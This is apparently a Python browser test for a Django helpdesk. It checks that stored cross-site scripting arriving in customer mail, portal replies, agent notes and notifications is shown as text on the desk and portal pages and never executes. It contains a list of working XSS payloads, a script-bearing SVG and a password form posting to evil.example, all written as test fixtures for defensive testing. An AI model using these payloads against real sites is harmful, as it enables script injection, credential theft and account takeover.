"""Stored XSS, in a real browser: a customer's mail carries script in every place a
person can put text (subject, display name, text and HTML bodies, file names, an
inline SVG with script), their portal reply and an agent's note carry more, and a
notification quotes the subject. The desk (queue, ticket, search results,
notifications) and the customer's portal page show it all as text: no dialog
opens, no injected code sets its marker, and the browser reports no error (a
refused inline script would be one), while our own scripts still run."""

from __future__ import annotations

from email.message import EmailMessage
from email.utils import format_datetime

import pytest
from django.utils import timezone

from frontline import workflow
from frontline.notifications.services import notify
from frontline.tickets import access
from frontline.tickets.models import Ticket
from tests.conftest import PASSWORD
from tests.e2e.browser import chromium, requires_chromium, sign_in
from tests.mail.inbound_mails import deliver

# Each vector, if it ran, would set window.__xss or open a dialog.
VECTORS = [
    "<script>window.__xss='script'</script>",
    '<img src=x onerror="window.__xss=\'img\'">',
    '"><svg/onload=alert("svg")>',
    "'><iframe srcdoc=\"<script>parent.__xss='srcdoc'</script>\"></iframe>",
    '<a href="javascript:alert(\'link\')">Rechnung öffnen</a>',
    "</textarea><script>alert('textarea')</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')>",
    "<details open ontoggle=\"window.__xss='toggle'\">",
    "{{7*7}} ${alert('template')} <body onload=alert('body')>",
    "<base href=\"https://evil.example/\"><script src=\"/static/x.js\"></script>",
]
SVG = (b'<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" '
       b'onload="alert(\'svg-file\')"><script>window.__xss="svg-file"</script>'
       b'<rect width="20" height="20" fill="red"/></svg>')


def _hostile_mail() -> bytes:
    mail = EmailMessage()
    mail["From"] = f'"{VECTORS[1]} Mallory" <mallory@hostile.example>'
    mail["To"] = "support@frontline.localhost"
    mail["Subject"] = f"Export kaputt {VECTORS[0]} {VECTORS[2]}"
    mail["Message-ID"] = "<xss-battery-1@hostile.example>"
    mail["Date"] = format_datetime(timezone.now())
    mail.set_content("Hallo,\n" + "\n".join(VECTORS) + "\nGrüße, Mallory")
    mail.add_alternative(
        "<p>Bonjour,</p>" + "".join(f"<div>{vector}</div>" for vector in VECTORS)
        + '<p><img src="cid:diagram@hostile.example" alt="diagram"></p>'
        + '<form action="https://evil.example/"><input name="password"></form>',
        subtype="html")
    html_part = mail.get_payload()[1]
    html_part.add_related(SVG, maintype="image", subtype="svg+xml",
                          cid="<diagram@hostile.example>", filename="diagram.svg")
    mail.add_attachment(b"<html><script>alert('file')</script></html>", maintype="text",
                        subtype="html", filename=f"{VECTORS[3]}.html")
    mail.add_attachment(SVG, maintype="image", subtype="svg+xml",
                        filename=f"{VECTORS[4]}.svg")
    return bytes(mail)


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
@requires_chromium
def test_no_stored_script_runs_in_desk_or_portal(live_server, lena, standard_plan):
    from playwright.sync_api import expect

    deliver(_hostile_mail())
    ticket = Ticket.objects.get()
    requester = ticket.requester
    workflow.add_customer_message(ticket, requester, "Portal: " + " ".join(VECTORS[5:]),
                                  channel="portal")
    workflow.add_note(ticket, lena, "Notiz: " + VECTORS[6] + VECTORS[8])
    notify([lena], "sla_warning", f"{ticket.reference} {ticket.subject} {VECTORS[7]}",
           ticket=ticket)
    portal_path = access.ticket_path(ticket, requester)

    dialogs: list[str] = []
    missing: list[str] = []
    with chromium(live_server.url) as session:
        page = session.page(console_errors=True)
        errors = session.errors
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        # Which resource a "Failed to load resource" error was about.
        page.on("response", lambda response: missing.append(response.url)
                if response.status >= 400 else None)

        sign_in(page, live_server.url, "lena", PASSWORD)
        expect(page.locator("h1")).to_be_visible()

        pages = {
            "queue": "/q/open",
            "ticket": f"/t/{ticket.reference}",
            "search": "/search?q=Export",
            "notifications": "/notifications",
            "portal": portal_path,
        }
        for name, path in pages.items():
            page.goto(live_server.url + path)
            page.wait_for_load_state("load")
            assert page.evaluate("typeof window.__xss") == "undefined", name
            # Our own code still runs under the policy (htmx on the desk).
            if name != "portal":
                assert page.evaluate("typeof window.htmx") == "object", name
                expect(page.locator("body")).to_contain_text("Export kaputt")
            if name == "ticket":
                # Shown as text, not dropped: the subject's script tag reads as typed.
                expect(page.locator("h1")).to_contain_text("<script>")
                # The inline SVG is shown as an image, where no script of it runs.
                page.wait_for_timeout(300)
        # htmx parts swapped into the page run nothing either: the ticket page again,
        # then the keyboard's reply composer, as an agent works.
        page.goto(f"{live_server.url}/t/{ticket.reference}")
        page.wait_for_load_state("load")
        page.keyboard.press("r")
        page.keyboard.type(VECTORS[0])
        page.click("#composer button.primary")
        expect(page.locator("#timeline .entry.kind-outbound")).to_contain_text("<script>")
        assert page.evaluate("typeof window.__xss") == "undefined"
    assert dialogs == []
    # A browser asks for /favicon.ico by itself; we serve none.
    missing = [url for url in missing if not url.endswith("/favicon.ico")]
    assert missing == []
    assert len([e for e in errors if e.startswith("Failed to load resource")]) <= 1
    assert [error for error in errors if not error.startswith("Failed to load resource")] == []
